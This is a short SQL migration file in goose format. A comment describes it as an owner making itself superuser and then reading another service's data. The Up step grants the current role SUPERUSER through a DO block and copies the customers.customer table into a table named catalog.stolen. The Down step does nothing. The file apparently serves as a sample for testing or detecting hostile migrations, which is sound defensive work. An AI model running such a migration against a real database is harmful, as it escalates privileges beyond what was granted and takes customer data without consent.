-- The owner makes itself superuser, then reads another service.
-- +goose Up
-- +goose StatementBegin
DO $$ BEGIN EXECUTE format('ALTER ROLE %I SUPERUSER', current_user); END $$;
-- +goose StatementEnd
CREATE TABLE catalog.stolen AS SELECT * FROM customers.customer;

-- +goose Down
SELECT 1;
